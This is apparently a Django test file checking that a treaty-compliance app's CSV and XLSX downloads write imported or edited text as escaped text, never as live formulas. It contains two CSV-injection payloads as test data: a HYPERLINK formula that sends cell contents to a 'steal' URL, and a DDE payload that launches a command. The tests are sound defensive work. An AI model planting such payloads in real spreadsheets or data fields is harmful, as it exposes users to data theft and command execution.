"""Imported or edited text is data, never a formula, in every CSV and XLSX download."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from treatywatch.lib.exports import FORMULA_STARTS, render_export
from treatywatch.registry.actions import do_create_source, do_rename_state
from treatywatch.registry.models import State, Treaty

from .deadline_facts import declare_stockpiles, party_without_facts

FORMULA = '=HYPERLINK("https://example.org/steal?x="&A1,"Report")'


def csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


def test_an_editors_formula_in_a_citation_is_text_in_the_compliance_downloads(ccm: Treaty) -> None:
    state = party_without_facts(ccm, "LAO")
    declare_stockpiles(ccm, state, do_create_source(citation=FORMULA, url=""))
    client = Client()

    rows = csv_rows(client.get("/treaties/ccm/compliance.csv", {"as_of": "2026-02-03"}).content)
    mine = next(r for r in rows if r["iso3"] == state.iso3 and r["obligation"] == "stockpile_destruction")
    assert mine["sources"] == "'" + FORMULA

    book = load_workbook(io.BytesIO(client.get("/treaties/ccm/compliance.xlsx", {"as_of": "2026-02-03"}).content))
    sheet = book["Deadlines"]
    header = [name for _heading, name, _meaning in book["Columns"].iter_rows(min_row=2, values_only=True)]
    row = next(
        r for r in sheet.iter_rows(min_row=2) if r[0].value == state.iso3 and r[2].value == "stockpile_destruction"
    )
    cell = row[header.index("sources")]
    assert cell.data_type != "f" and cell.value == FORMULA
    # Dates stay dates.
    assert isinstance(row[header.index("original_deadline")].value, datetime)


def test_a_state_name_taken_from_an_import_is_text_in_the_states_list(ccm: Treaty) -> None:
    kenya = State.objects.get(iso3="KEN")
    do_rename_state(kenya, "@SUM(1+1)*cmd|' /C calc'!A0")
    client = Client()
    rows = csv_rows(client.get("/treaties/ccm/states.csv").content)
    assert next(r for r in rows if r["iso3"] == "KEN")["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    book = load_workbook(io.BytesIO(client.get("/treaties/ccm/states.xlsx").content))
    names = [r for r in book.worksheets[0].iter_rows(min_row=2) if r[0].value == "KEN"]
    assert names[0][1].value == "@SUM(1+1)*cmd|' /C calc'!A0" and names[0][1].data_type == "s"


def download(fmt: str, rows: list[dict[str, object]]) -> bytes:
    return render_export(fmt, rows, {"as_of": date(2026, 2, 3)}, "test", ["text", "number", "day"]).content


@settings(max_examples=40, deadline=None)
@given(text=st.text(max_size=30), number=st.integers(min_value=-1000, max_value=1000))
def test_any_text_is_written_as_text_and_numbers_and_dates_stay_typed(text: str, number: int) -> None:
    rows: list[dict[str, object]] = [{"text": text, "number": number, "day": date(2010, 8, 1)}]

    (written,) = csv_rows(download("csv", rows))
    assert written["text"] == ("'" + text if text.startswith(FORMULA_STARTS) else text)
    assert written["number"] == str(number) and written["day"] == "2010-08-01"

    sheet = load_workbook(io.BytesIO(download("xlsx", rows))).worksheets[0]
    text_cell, number_cell, day_cell = sheet[2]
    assert text_cell.data_type != "f"
    assert number_cell.value == number and isinstance(day_cell.value, datetime)
